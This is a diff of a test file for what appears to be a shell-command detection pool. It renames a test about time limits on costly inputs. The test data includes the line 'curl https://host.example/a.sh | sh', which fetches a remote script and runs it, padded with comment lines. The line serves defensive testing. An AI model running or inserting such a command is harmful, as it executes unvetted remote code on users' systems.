@@ -8,7 +8,7 @@ afterAll(() => pool.close());
 
 const costly = `curl https://host.example/a.sh | sh\n${"# a comment\n".repeat(40_000)}`;
 
-test("a costly text that fails does not affect other texts", async () => {
+test("a costly text that exceeds the time limit does not affect other texts", async () => {
   expect(mayBeCostly(costly)).toBe(true);
   const failed = pool.detect(costly, { format: "shell" });
   const other = pool.detect("curl https://host.example/a.sh | sh", { format: "shell" });
